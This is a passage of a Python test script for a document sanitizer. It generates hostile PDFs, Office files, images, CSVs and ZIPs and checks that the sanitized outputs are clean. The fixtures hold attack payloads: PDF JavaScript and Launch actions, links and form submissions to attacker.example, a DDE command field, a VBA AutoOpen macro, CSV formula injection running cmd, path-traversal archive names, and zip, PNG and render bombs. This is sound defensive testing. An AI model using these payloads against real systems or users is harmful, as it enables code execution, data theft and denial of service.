#!/usr/bin/python3
"""check_cdr.py — harmlessness and fidelity of the sanitizer (issue 17).

Generates hostile files at test time (nothing binary is kept in the repo),
runs them through textize-cdr (the sanitizer's converters, each in its
bubblewrap sandbox), and checks the outputs with code that shares nothing
with the sanitizer: PDFs through qpdf (--qdf --json: every object, streams
uncompressed), PNGs chunk by chunk, text byte by byte, OCR text against the
words that were drawn. Each check first confirms that the INPUT is caught by
the same checker, so a checker that sees nothing cannot pass.

usage: check_cdr.py TEXTIZE_CDR WORKDIR   (prints "N passed, N failed, N skipped")
As a module (WORK set by the caller): pdf_problems(path), zip_problems(bytes).
"""
import io
import json
import os
import re
import struct
import subprocess
import sys
import zipfile
import zlib

CDR = WORK = None   # set by main(); tests/integration/test_sanitize.sh imports the checkers
IPAG = '/usr/share/fonts/opentype/ipafont-gothic/ipag.ttf'
FORBIDDEN = [b'/JavaScript', b'/JS', b'/OpenAction', b'/AA', b'/Launch', b'/EmbeddedFile',
             b'/EmbeddedFiles', b'/RichMedia', b'/AcroForm', b'/XFA', b'/URI', b'/GoToR',
             b'/GoToE', b'/SubmitForm', b'/ImportData', b'/Annots', b'/Names']
results = {'passed': 0, 'failed': 0, 'skipped': 0}
LAST = {'members': ''}   # the "members:" line of the last textize-cdr run (a ZIP)
counter = [0]


def report(name, ok, why=''):
    results['passed' if ok else 'failed'] += 1
    print(('ok     ' if ok else 'FAILED ') + name + ('' if ok else ': ' + why), flush=True)


def skip(name, why):
    results['skipped'] += 1
    print('skip   %s: %s' % (name, why), flush=True)


def sanitize(path, *opts):
    """Run textize-cdr; ('sanitized', kind, out) or ('unsanitizable', kind, reason)."""
    counter[0] += 1
    wd = os.path.join(WORK, 'w%02d' % counter[0])
    os.mkdir(wd)
    p = subprocess.run([CDR] + list(opts) + [path, wd], capture_output=True, text=True,
                       timeout=600)
    if p.returncode != 0:
        return ('error', '', p.stderr.strip())
    lines = p.stdout.strip().split('\n')
    LAST['members'] = lines[1][len('members: '):] if len(lines) > 1 else ''
    words = lines[0].split(' ', 2)
    if words[0] == 'sanitized':
        return ('sanitized', words[1], words[2].rsplit(' ', 1)[0])
    return ('unsanitizable', words[1], words[2] if len(words) > 2 else '')


# ---------------------------------------------------------------- PDF checker

def pdf_problems(path):
    """Everything in the PDF that is not 'pages of images (+ an OCR text layer)'."""
    qdf = path + '.qdf'
    subprocess.run(['qpdf', '--qdf', '--object-streams=disable', '--decode-level=all',
                    path, qdf], check=False, capture_output=True)
    problems = []
    raw = open(qdf if os.path.exists(qdf) else path, 'rb').read()
    for name in FORBIDDEN:
        if re.search(re.escape(name) + rb'(?![A-Za-z0-9])', raw):
            problems.append(name.decode())
    if re.search(rb'\((?:https?|file|ftp|smb)://', raw, re.I):
        problems.append('external reference')
    j = json.loads(subprocess.run(['qpdf', '--json=2', '--json-key=qpdf', path],
                                  capture_output=True, check=True).stdout)
    objs = {k: v for k, v in j['qpdf'][1].items() if k.startswith('obj:')}
    for oid, obj in objs.items():
        d = obj.get('value', obj.get('stream', {}).get('dict')) if isinstance(obj, dict) else None
        if isinstance(obj, dict) and 'stream' in obj:
            d = obj['stream'].get('dict', {})
        if not isinstance(d, dict):
            continue
        if (d.get('/Type') == '/XObject' and d.get('/Subtype') != '/Image') or \
                d.get('/Subtype') in ('/Form', '/PS'):
            problems.append('XObject %s %s' % (oid, d.get('/Subtype')))
        if d.get('/Type') == '/Font' and d.get('/BaseFont') not in ('/GlyphLessFont',):
            problems.append('font %s' % d.get('/BaseFont'))
        if d.get('/Subtype') == '/Image' and d.get('/Type') not in ('/XObject', None):
            problems.append('odd image %s' % oid)
    return problems


def pdf_text(path):
    return subprocess.run(['pdftotext', '-enc', 'UTF-8', path, '-'], capture_output=True,
                          text=True).stdout


def check_pdf_output(name, res, want_text=()):
    if res[0] != 'sanitized':
        return report(name, False, 'not sanitized: %s' % (res,))
    probs = pdf_problems(res[2])
    if probs:
        return report(name, False, 'output has ' + ', '.join(probs))
    text = re.sub(r'\s+', '', pdf_text(res[2]))
    missing = [w for w in want_text if re.sub(r'\s+', '', w) not in text]
    report(name, not missing, 'text lost: %s' % missing)


# ------------------------------------------------------------ hostile PDFs

def write_pdf(path, objects):
    """objects: list of bytes bodies for objects 1..n; object 1 is the catalog."""
    out = io.BytesIO()
    out.write(b'%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')
    offs = []
    for i, body in enumerate(objects, 1):
        offs.append(out.tell())
        out.write(b'%d 0 obj\n' % i + body + b'\nendobj\n')
    xref = out.tell()
    out.write(b'xref\n0 %d\n0000000000 65535 f \n' % (len(objects) + 1))
    for o in offs:
        out.write(b'%010d 00000 n \n' % o)
    out.write(b'trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n'
              % (len(objects) + 1, xref))
    open(path, 'wb').write(out.getvalue())


def stream(data, extra=b''):
    return b'<< /Length %d %s >>\nstream\n' % (len(data), extra) + data + b'\nendstream'


def hostile_pdf(path):
    content = b'BT /F1 24 Tf 72 700 Td (HARMLESS TEST 4711) Tj ET'
    write_pdf(path, [
        b'<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AcroForm << /Fields [9 0 R] '
        b'/XFA 10 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> '
        b'/EmbeddedFiles << /Names [(evil.exe) 7 0 R] >> >> >>',
        b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R '
        b'/Resources << /Font << /F1 5 0 R >> >> /Annots [8 0 R 11 0 R 9 0 R] '
        b'/AA << /O 6 0 R >> >>',
        stream(content),
        b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
        b'<< /S /JavaScript /JS (app.alert\\("pwned"\\); this.exportDataObject\\({cName: "evil.exe", nLaunch: 2}\\);) >>',
        b'<< /Type /Filespec /F (evil.exe) /EF << /F 12 0 R >> >>',
        b'<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] '
        b'/A << /S /URI /URI (http://attacker.example/collect) >> >>',
        b'<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 500 300 520] '
        b'/A << /S /SubmitForm /F (http://attacker.example/form) >> >>',
        stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>'),
        b'<< /Type /Annot /Subtype /Link /Rect [72 400 300 420] '
        b'/A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>',
        stream(b'MZ\x90\x00 not really an exe', b'/Type /EmbeddedFile'),
    ])


def render_bomb_pdf(path, depth=9, fan=12):
    """Form XObjects each drawing the next one `fan` times: fan**depth draws.
    No cycle (renderers detect those), just work that never ends in time."""
    objs = [b'<< /Type /Catalog /Pages 2 0 R >>',
            b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
            b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R '
            b'/Resources << /XObject << /X 5 0 R >> >> >>',
            stream(b'/X Do')]
    for level in range(depth):
        n = 5 + level
        if level == depth - 1:
            body = b'0 0 m 612 792 l S ' * 50
            objs.append(stream(body, b'/Type /XObject /Subtype /Form /BBox [0 0 612 792]'))
        else:
            body = b'q 1 0 0 1 0.1 0.1 cm /X Do Q ' * fan
            objs.append(stream(body, b'/Type /XObject /Subtype /Form /BBox [0 0 612 792] '
                               b'/Resources << /XObject << /X %d 0 R >> >>' % (n + 1)))
    write_pdf(path, objs)


def japanese_pdf(path, words):
    """Three pages of prose lines: six words joined by 、 ending in 。"""
    from reportlab.pdfgen import canvas
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.ttfonts import TTFont
    pdfmetrics.registerFont(TTFont('IPAG', IPAG))
    c = canvas.Canvas(path)
    lines = ['、'.join(words[i:i + 6]) + '。' for i in range(0, len(words), 6)]
    per_page = (len(lines) + 2) // 3
    for p in range(3):
        c.setFont('IPAG', 14)
        y = 760
        for line in lines[p * per_page:(p + 1) * per_page]:
            c.drawString(72, y, line)
            y -= 28
        c.showPage()
    c.save()


JA_WORDS = ('見積書 請求書 工事 作業 予定 確認 担当者 連絡先 住所 電話 番号 金額 合計 税込 '
            '支払 期限 契約 締結 日付 令和 年度 市役所 総務課 財政課 建設課 道路 橋梁 '
            '修繕 点検 報告 提出 資料 会議 議事録 出席 欠席 承認 決裁 起案 文書 管理 '
            '保存 期間 廃棄 情報 安全 対策 基準 無害化 添付 ファイル 送付 受領 返信 '
            '御中 様 殿 各位 敬具 拝啓 記 以上 株式会社 有限会社 代表 取締役 社長 部長 '
            '課長 係長 主任 職員 委託 業務 仕様書 設計書 図面 数量 単価 工期 着手 完了').split()


def test_pdfs():
    hp = os.path.join(WORK, 'hostile.pdf')
    hostile_pdf(hp)
    caught = pdf_problems(hp)
    report('checker catches the hostile PDF itself',
           {'/JavaScript', '/OpenAction', '/Launch', '/EmbeddedFile', '/AcroForm', '/XFA',
            '/AA', '/URI', 'external reference'} <= set(caught), 'only %s' % caught)
    check_pdf_output('hostile PDF (JS, OpenAction, AA, Launch, EmbeddedFile, AcroForm, XFA, '
                     'links) → image PDF, text kept',
                     sanitize(hp, '--no-ocr'), ())
    check_pdf_output('hostile PDF with OCR layer keeps its text', sanitize(hp),
                     ('HARMLESS', '4711'))

    # OCR is an extra: when tesseract fails (here: no such language) the
    # pages still come out, without a text layer
    res = sanitize(hp, '--lang', 'no-such-language')
    report('tesseract failing leaves an image PDF without text layer',
           res[0] == 'sanitized' and not pdf_problems(res[2]) and
           'HARMLESS' not in pdf_text(res[2]), str(res))

    bomb = os.path.join(WORK, 'bomb.pdf')
    render_bomb_pdf(bomb)
    res = sanitize(bomb, '--no-ocr', '--timeout', '8')
    report('render bomb PDF ends unsanitizable at the time limit',
           res[0] == 'unsanitizable' and ('time' in res[2] or 'signal' in res[2]), str(res))

    enc = os.path.join(WORK, 'enc.pdf')
    subprocess.run(['qpdf', '--encrypt', 'user-pw', 'owner-pw', '256', '--', hp, enc],
                   check=True)
    res = sanitize(enc, '--no-ocr')
    report('password-protected PDF is unsanitizable with a reason',
           res[0] == 'unsanitizable' and res[2] != '', str(res))

    many = os.path.join(WORK, 'many.pdf')
    subprocess.run(['qpdf', '--empty', '--pages'] + [hp] * 5 + ['--', many], check=True)
    res = sanitize(many, '--no-ocr', '--max-pages', '4')
    report('PDF over SanitizeMaxPages is unsanitizable',
           res[0] == 'unsanitizable' and 'SanitizeMaxPages' in res[2], str(res))

    ja = os.path.join(WORK, 'ja.pdf')
    japanese_pdf(ja, JA_WORDS)
    res = sanitize(ja)
    if res[0] != 'sanitized':
        return report('OCR of a Japanese document', False, str(res))
    text = re.sub(r'\s+', '', pdf_text(res[2]))
    found = [w for w in JA_WORDS if w in text]
    share = len(found) / len(JA_WORDS)
    print('       OCR recovered %d of %d words (%.1f%%)' % (len(found), len(JA_WORDS), share * 100))
    report('OCR (tesseract jpn) recovers >= 95%% of the words (%.1f%%)' % (share * 100),
           share >= 0.95, 'missing %s' % [w for w in JA_WORDS if w not in text])
    check_pdf_output('OCR output is images + text layer only', res, ())


# ----------------------------------------------------------- Office files

def docx_with_macro_template_dde(path):
    import docx
    d = docx.Document()
    d.add_paragraph('MACRO TEST DOCUMENT 2468')
    buf = io.BytesIO()
    d.save(buf)
    zin = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    zout = zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED)
    for item in zin.infolist():
        data = zin.read(item.filename)
        if item.filename == 'word/document.xml':
            dde = (b'<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
                   b'&quot;/k calc.exe&quot;"><w:r><w:t>DDE FIELD</w:t></w:r></w:fldSimple></w:p>')
            data = data.replace(b'</w:body>', dde + b'</w:body>', 1)
        if item.filename == 'word/_rels/document.xml.rels':
            data = data.replace(b'</Relationships>',
                                b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/'
                                b'office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
                                b'</Relationships>')
        zout.writestr(item, data)
    zout.writestr('word/vbaProject.bin', b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + b'\0' * 504 +
                  b'Attribute VB_Name = "ThisDocument"\nSub AutoOpen()\nShell "calc"\nEnd Sub\n')
    zout.writestr('word/_rels/settings.xml.rels',
                  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                  'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats'
                  '.org/officeDocument/2006/relationships/attachedTemplate" '
                  'Target="http://attacker.example/template.dotm" TargetMode="External"/>'
                  '</Relationships>')
    zout.close()


def xlsx_with_macro_and_dde(path):
    import openpyxl
    wb = openpyxl.Workbook()
    ws = wb.active
    ws['A1'] = '作業予定表'
    ws['A2'] = 'SHEET TEST 1357'
    ws['A3'] = "=cmd|' /C calc'!A0"
    buf = io.BytesIO()
    wb.save(buf)
    zin = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    zout = zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED)
    for item in zin.infolist():
        zout.writestr(item, zin.read(item.filename))
    zout.writestr('xl/vbaProject.bin', b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + b'\0' * 504)
    zout.close()


def test_office():
    try:
        import docx  # noqa: F401
        import openpyxl  # noqa: F401
    except ImportError as e:
        return skip('Office files', 'python3-docx/python3-openpyxl missing: %s' % e)
    if not os.path.exists('/usr/lib/libreoffice/program/soffice'):
        return skip('Office files', 'LibreOffice not installed')
    dp = os.path.join(WORK, 'macro.docx')
    docx_with_macro_template_dde(dp)
    check_pdf_output('docx with VBA project, external template, DDE field → image PDF',
                     sanitize(dp, '--timeout', '240'), ('MACRO', 'TEST', 'DOCUMENT', '2468'))
    xp = os.path.join(WORK, 'sheet.xlsx')
    xlsx_with_macro_and_dde(xp)
    check_pdf_output('xlsx with VBA project and a DDE formula → image PDF',
                     sanitize(xp, '--timeout', '240'), ('作業予定表', 'SHEET', '1357'))


# ------------------------------------------------------------------ images

def png_chunks(data):
    if data[:8] != b'\x89PNG\r\n\x1a\n':
        return None, b''
    pos, chunks = 8, []
    while pos + 8 <= len(data):
        n, t = struct.unpack('>I4s', data[pos:pos + 8])
        chunks.append(t.decode('latin-1'))
        pos += 12 + n
        if t == b'IEND':
            break
    return chunks, data[pos:]


def test_images():
    from PIL import Image
    import PIL.PngImagePlugin as P
    src = Image.new('RGB', (320, 200), (200, 30, 30))
    for x in range(0, 320, 20):
        for y in range(200):
            src.putpixel((x, y), (0, 0, 255))
    # JPEG with EXIF (GPS, camera), an ICC profile, a comment and a zip after EOI
    exif = Image.Exif()
    exif[0x010f] = 'EvilCam'
    exif[0x0131] = 'SECRET-SOFTWARE'
    exif[0x8825] = {1: 'N', 2: (35.0, 41.0, 22.0)}
    icc = open('/usr/share/color/icc/colord/sRGB.icc', 'rb').read() \
        if os.path.exists('/usr/share/color/icc/colord/sRGB.icc') else b'\0' * 128 + b'acsp' + b'\0' * 300
    jp = os.path.join(WORK, 'meta.jpg')
    src.save(jp, 'JPEG', exif=exif.tobytes(), icc_profile=icc, comment=b'SECRET-COMMENT', quality=95)
    payload = io.BytesIO()
    with zipfile.ZipFile(payload, 'w') as z:
        z.writestr('evil.exe', b'MZ' + b'\0' * 100)
    with open(jp, 'ab') as f:
        f.write(payload.getvalue())
    raw = open(jp, 'rb').read()
    report('checker sees the JPEG metadata and trailing payload',
           b'EvilCam' in raw and b'SECRET-COMMENT' in raw and b'evil.exe' in raw)
    res = sanitize(jp)
    if res[0] != 'sanitized':
        return report('JPEG with EXIF/ICC/comment/trailing zip', False, str(res))
    out = open(res[2], 'rb').read()
    chunks, tail = png_chunks(out)
    ok = chunks is not None and set(chunks) <= {'IHDR', 'pHYs', 'IDAT', 'IEND'} and tail == b''
    ok = ok and not any(s in out for s in (b'EvilCam', b'SECRET', b'evil.exe', b'acsp', b'Exif'))
    report('JPEG with EXIF/ICC/comment/trailing zip → PNG without metadata or payload', ok,
           'chunks %s, %d trailing bytes' % (chunks, len(tail)))
    a, b = Image.open(jp).convert('RGB'), Image.open(res[2]).convert('RGB')
    diff = max(abs(x - y) for p, q in zip(a.getdata(), b.getdata()) for x, y in zip(p, q))
    report('JPEG pixels kept (same size, max channel difference 0 vs. a plain decode)',
           a.size == b.size and diff == 0, 'size %s/%s diff %d' % (a.size, b.size, diff))

    pp = os.path.join(WORK, 'meta.png')
    info = P.PngInfo()
    info.add_text('Comment', 'SECRET-TEXT-CHUNK')
    info.add_itxt('XML:com.adobe.xmp', '<x:xmpmeta>SECRET-XMP</x:xmpmeta>')
    rgba = src.convert('RGBA')
    rgba.putpixel((0, 0), (0, 0, 0, 0))
    rgba.save(pp, 'PNG', pnginfo=info, icc_profile=icc)
    with open(pp, 'ab') as f:
        f.write(b'<script>alert(1)</script>' + payload.getvalue())
    res = sanitize(pp)
    if res[0] != 'sanitized':
        return report('PNG with text/XMP/ICC chunks and trailing data', False, str(res))
    out = open(res[2], 'rb').read()
    chunks, tail = png_chunks(out)
    ok = set(chunks or ['?']) <= {'IHDR', 'pHYs', 'IDAT', 'IEND'} and tail == b'' and \
        b'SECRET' not in out and b'script' not in out
    b = Image.open(res[2]).convert('RGB')
    ok = ok and b.size == src.size and b.getpixel((5, 5)) == src.getpixel((5, 5)) and \
        b.getpixel((0, 0)) == (255, 255, 255)
    report('PNG with text/XMP/ICC chunks, alpha and trailing data → clean PNG, pixels kept', ok,
           'chunks %s tail %d' % (chunks, len(tail)))

    big = os.path.join(WORK, 'bomb.png')
    # 30000 x 30000 one-colour PNG: tiny file, 900 megapixels
    raw = zlib.compress(b'\0' * (30000 + 1) * 10, 9)
    ihdr = struct.pack('>IIBBBBB', 30000, 30000, 8, 0, 0, 0, 0)

    def chunk(t, d):
        return struct.pack('>I', len(d)) + t + d + struct.pack('>I', zlib.crc32(t + d) & 0xffffffff)
    rows = zlib.compressobj(9)
    data = b''.join(rows.compress(b'\0' * 30001) for _ in range(30000)) + rows.flush()
    open(big, 'wb').write(b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', ihdr) + chunk(b'IDAT', data) +
                          chunk(b'IEND', b''))
    del raw
    res = sanitize(big)
    report('decompression-bomb PNG (900 Mpixel) is unsanitizable',
           res[0] == 'unsanitizable' and 'pixel' in res[2].lower(), str(res))


# ------------------------------------------------------------ text, CSV, other

def test_text():
    cp = os.path.join(WORK, 'sjis.csv')
    rows = '名前,金額,備考\r\n山田,-1200,=cmd|\' /C calc\'!A0\r\n佐藤,300,"@SUM(1+1)*cmd|\' /C calc\'!A0"\r\n'
    open(cp, 'wb').write(rows.encode('cp932'))
    res = sanitize(cp)
    if res[0] != 'sanitized':
        report('Shift_JIS CSV with formula cells', False, str(res))
    else:
        out = open(res[2], 'rb').read()
        text = out[3:].decode('utf-8')
        ok = out[:3] == b'\xef\xbb\xbf' and '山田' in text and '佐藤' in text and \
            "'=cmd" in text and '"\'@SUM' in text and ',-1200,' in text and \
            not re.search(r'(^|,|")[=+@]', text.replace("'=", '').replace("'@", ''))
        report('Shift_JIS CSV → UTF-8 with BOM, formula cells defused, numbers kept', ok, repr(text))
    tp = os.path.join(WORK, 'bidi.txt')
    open(tp, 'wb').write('請求書\u202eexe.pdf\u202c の件\x1b[31mです\n'.encode('utf-8'))
    res = sanitize(tp)
    ok = res[0] == 'sanitized' and open(res[2], 'rb').read().decode('utf-8') == '請求書exe.pdf の件[31mです\n'
    report('text: bidi overrides and escape removed, Japanese kept', ok, str(res))

    ep = os.path.join(WORK, 'tool.exe')
    open(ep, 'wb').write(b'MZ\x90\x00\x03' + b'\0' * 60 + b'PE\0\0' + b'\0' * 400)
    res = sanitize(ep)
    report('executable is unsanitizable (unknown type)', res[0] == 'unsanitizable', str(res))
    # the name decides nothing: a PDF called .txt is still rendered as a PDF
    hp = os.path.join(WORK, 'hostile.pdf')
    disguised = os.path.join(WORK, 'readme.txt')
    open(disguised, 'wb').write(open(hp, 'rb').read())
    res = sanitize(disguised, '--no-ocr')
    report('type comes from content: a PDF named .txt is rendered as a PDF',
           res[0] == 'sanitized' and res[1] == 'pdf', str(res))


# ---------------------------------------------------------------- ZIP archives

class RawName(zipfile.ZipInfo):
    """A member whose name is written as these bytes, without the UTF-8 flag
    (what Japanese Windows' Explorer writes: CP932)."""
    def __init__(self, raw):
        super().__init__(raw.decode('cp437'))
        self.raw = raw

    def _encodeFilenameFlags(self):
        return self.raw, self.flag_bits


def zip_bytes(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            z.writestr(RawName(name) if isinstance(name, bytes) else name, data)
    return buf.getvalue()


SAFE_NAME = re.compile(r'^(?!/)(?!.*(^|/)\.\.?(/|$))[^\\\x00-\x1f\x7f\u202a-\u202e\u2066-\u2069:]+$')


def zip_problems(data, depth=0):
    """Everything in a ZIP that is not 'safe names, no encryption, members
    that are image PDFs, metadata-free PNGs, UTF-8 text or such ZIPs'."""
    problems = []
    z = zipfile.ZipFile(io.BytesIO(data))
    if z.comment:
        problems.append('archive comment')
    for zi in z.infolist():
        name = zi.filename if zi.flag_bits & 0x800 or zi.filename.isascii() \
            else '(not UTF-8) ' + zi.filename
        if zi.flag_bits & 1:
            problems.append(name + ': encrypted')
            continue
        if not SAFE_NAME.match(name) or zi.is_dir():
            problems.append(name + ': unsafe name')
        body = z.read(zi)
        ext = os.path.splitext(name)[1].lower()
        if ext == '.pdf':
            tmp = os.path.join(WORK, 'zipmember-%d.pdf' % counter[0])
            counter[0] += 1
            open(tmp, 'wb').write(body)
            problems += ['%s: %s' % (name, p) for p in pdf_problems(tmp)]
        elif ext == '.png':
            chunks, rest = png_chunks(body)
            if chunks is None or not set(chunks) <= {'IHDR', 'pHYs', 'IDAT', 'IEND'} or rest:
                problems.append('%s: PNG chunks %s, %d bytes after IEND' % (name, chunks, len(rest)))
        elif ext in ('.txt', '.csv'):
            try:
                t = body.decode('utf-8')
                if re.search('[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e]', t):
                    problems.append(name + ': control characters')
            except UnicodeDecodeError:
                problems.append(name + ': not UTF-8')
        elif ext == '.zip' and depth < 3:
            problems += ['%s: %s' % (name, p) for p in zip_problems(body, depth + 1)]
        else:
            problems.append(name + ': a member of a type the sanitizer never writes')
    return problems


def test_zip_aes():
    """WinZip AES (AE-x), as 7-Zip and Windows tools write it: opened with
    the password by 7-Zip inside the sandbox (issue 19). The password is on
    argv only in this creation step."""
    seven = next((p for p in ('/usr/bin/7zz', '/usr/bin/7z') if os.path.exists(p)), None)
    if seven is None:
        return skip('AES-encrypted ZIP', '7zip (7zz) or p7zip-full (7z) missing (scripts/deps)')
    d = os.path.join(WORK, 'aes-src')
    os.makedirs(d, exist_ok=True)
    memo = '打合せメモ\r\n'.encode('utf-8') * 2000          # deflated member (AE-1 or AE-2)
    open(os.path.join(d, 'memo.txt'), 'wb').write(memo)
    open(os.path.join(d, 'short.txt'), 'wb').write(b'secret\n')   # stored or tiny
    for bits in ('AES256', 'AES128'):
        ap = os.path.join(WORK, 'aes-%s.zip' % bits)
        subprocess.run([seven, 'a', '-tzip', '-mem=' + bits, '-pHimitsu-9', ap, 'memo.txt', 'short.txt'],
                       cwd=d, check=True, stdout=subprocess.DEVNULL)
        methods = {zi.compress_type for zi in zipfile.ZipFile(ap).infolist()}
        if methods != {99}:
            return report('the test AES ZIP really is WinZip AES (method 99)', False, str(methods))
        res = sanitize(ap, '--no-ocr')
        report('%s ZIP without a password is unsanitizable: encrypted' % bits,
               res[:2] == ('unsanitizable', 'encrypted-zip'), str(res))
        res = sanitize(ap, '--no-ocr', '--password', 'Himitsu-9')
        ok = res[0] == 'sanitized'
        if ok:
            z = zipfile.ZipFile(res[2])
            ok = z.read('short.txt') == b'secret\n' and z.read('memo.txt') == memo \
                and not any(zi.flag_bits & 1 for zi in z.infolist())
        report('%s ZIP with its password is opened (7-Zip in the sandbox) and sanitized, '
               'unencrypted, the text kept' % bits, ok, str(res))
        res = sanitize(ap, '--no-ocr', '--password', 'himitsu-9')
        report('%s ZIP with a wrong password is unsanitizable (password)' % bits,
               res[0] == 'unsanitizable' and 'password' in res[2], str(res))


def test_zip():
    from PIL import Image
    hp, jp = os.path.join(WORK, 'hostile.pdf'), os.path.join(WORK, 'meta.jpg')
    if not (os.path.exists(hp) and os.path.exists(jp)):
        return skip('ZIP members', 'hostile.pdf / meta.jpg were not generated')
    inner = zip_bytes([('内訳.pdf', open(hp, 'rb').read())])
    members = [
        ('見積書.pdf'.encode('cp932'), open(hp, 'rb').read()),       # CP932 name, no UTF-8 flag
        ('写真/現場.jpg', open(jp, 'rb').read()),                     # UTF-8 flag
        ('作業予定.txt'.encode('cp932'), '作業予定\r\n'.encode('cp932')),
        ('../../../../tmp/escape.txt', b'traversal\n'),
        ('/etc/cron.d/abs.txt', b'absolute\n'),
        (b'C:\\Windows\\win.txt', b'drive and backslashes\n'),
        ('invoice\u202etxt.exe', b'MZ\x90\x00' + b'\0' * 300),    # bidi-disguised executable
        ('nested.zip', inner),
    ]
    zp = os.path.join(WORK, 'mixed.zip')
    open(zp, 'wb').write(zip_bytes(members))
    caught = zip_problems(open(zp, 'rb').read())
    report('ZIP checker catches the hostile archive itself (names, PDF, executable)',
           any('unsafe name' in p for p in caught) and any('/JavaScript' in p for p in caught)
           and any('never writes' in p for p in caught), str(caught))
    res = sanitize(zp, '--no-ocr')
    if res[0] != 'sanitized' or res[1] != 'zip':
        return report('ZIP of a hostile PDF, a JPEG, CP932 names, traversal names, an exe', False,
                      str(res))
    out = open(res[2], 'rb').read()
    probs = zip_problems(out)
    report('ZIP → a new ZIP whose every member is harmless, with safe names', not probs, str(probs))
    names = zipfile.ZipFile(io.BytesIO(out)).namelist()
    want = {'見積書.pdf', '写真/現場.png', '作業予定.txt', 'tmp/escape.txt', 'etc/cron.d/abs.txt',
            'Windows/win.txt', 'nested.zip', '無害化の結果.txt'}
    report('ZIP member names: CP932 decoded, traversal/absolute/drive paths made relative, '
           'extension of what each now is', set(names) == want, str(sorted(names)))
    rep = zipfile.ZipFile(io.BytesIO(out)).read('無害化の結果.txt').decode('utf-8-sig')
    report('ZIP: the executable is not in it and both the report and the note say why',
           'invoice[U+202E]txt.exe' in rep and 'cannot be sanitized' in rep
           and 'invoice[U+202E]txt.exe' in LAST['members']
           and LAST['members'].startswith('7 of 8 members sanitized'), rep + LAST['members'])
    nested = zipfile.ZipFile(io.BytesIO(zipfile.ZipFile(io.BytesIO(out)).read('nested.zip')))
    report('ZIP: a nested ZIP is sanitized the same way', '内訳.pdf' in nested.namelist(),
           str(nested.namelist()))
    png = zipfile.ZipFile(io.BytesIO(out)).read('写真/現場.png')
    a, b = Image.open(jp).convert('RGB'), Image.open(io.BytesIO(png)).convert('RGB')
    report('ZIP: the image member keeps its pixels', a.size == b.size, '%s %s' % (a.size, b.size))

    ep = os.path.join(WORK, 'enc.zip')
    src = os.path.join(WORK, 'secret.txt')
    open(src, 'w').write('secret\n')
    subprocess.run(['zip', '-q', '-j', '-e', '-P', 'himitsu', ep, src], check=True)
    res = sanitize(ep, '--no-ocr')
    report('encrypted ZIP (ZipCrypto) is unsanitizable: encrypted',
           res[:2] == ('unsanitizable', 'encrypted-zip') and 'encrypted' in res[2], str(res))
    res = sanitize(ep, '--no-ocr', '--password', 'himitsu')
    ok = res[0] == 'sanitized' and zipfile.ZipFile(res[2]).read('secret.txt') == b'secret\n'
    report('encrypted ZIP with its password (the seam for issue 19) is sanitized', ok, str(res))
    res = sanitize(ep, '--no-ocr', '--password', 'wrong')
    report('encrypted ZIP with a wrong password is unsanitizable',
           res[0] == 'unsanitizable' and 'password' in res[2], str(res))
    test_zip_aes()

    bp = os.path.join(WORK, 'bomb.zip')
    with zipfile.ZipFile(bp, 'w', zipfile.ZIP_DEFLATED) as z:
        for i in range(3):
            z.writestr('part%d.bin' % i, b'\0' * (100 << 20))
    wd_before = counter[0] + 1
    res = sanitize(bp)
    du = sum(os.path.getsize(os.path.join(d, f)) for d, _, fs in
             os.walk(os.path.join(WORK, 'w%02d' % wd_before)) for f in fs)
    report('zip bomb (300 MB of zeros in %d kB) is unsanitizable, not expanded (%d bytes on disk)'
           % (os.path.getsize(bp) // 1024, du),
           res[0] == 'unsanitizable' and 'zip bomb' in res[2] and du < (1 << 20), str(res))
    rp = os.path.join(WORK, 'ratio.zip')
    open(rp, 'wb').write(zip_bytes([('zeros.txt', b'\0' * (4 << 20))]))
    res = sanitize(rp, '--zip-total', str(1 << 30))
    report('one member packed over SanitizeZipMaxRatio is a zip bomb even under the total',
           res[0] == 'unsanitizable' and 'SanitizeZipMaxRatio' in res[2], str(res))
    mp = os.path.join(WORK, 'many.zip')
    open(mp, 'wb').write(zip_bytes([('f%03d.txt' % i, b'x') for i in range(101)]))
    res = sanitize(mp)
    report('101 members: unsanitizable (SanitizeZipMaxMembers 100)',
           res[0] == 'unsanitizable' and 'SanitizeZipMaxMembers' in res[2], str(res))
    # siblings share one budget: three nested ZIPs of 5 x 1,000,000 bytes
    # (each member under the ratio check's 1 MiB) against a total of 8 MB
    sib = zip_bytes([('n%d.zip' % k, zip_bytes([('t%d.txt' % i, b'x' * 1000000)
                                                for i in range(5)])) for k in range(3)])
    sp = os.path.join(WORK, 'siblings.zip')
    open(sp, 'wb').write(sib)
    res = sanitize(sp, '--no-ocr', '--zip-total', '8000000')
    total = 0
    if res[0] == 'sanitized':
        top = zipfile.ZipFile(res[2])
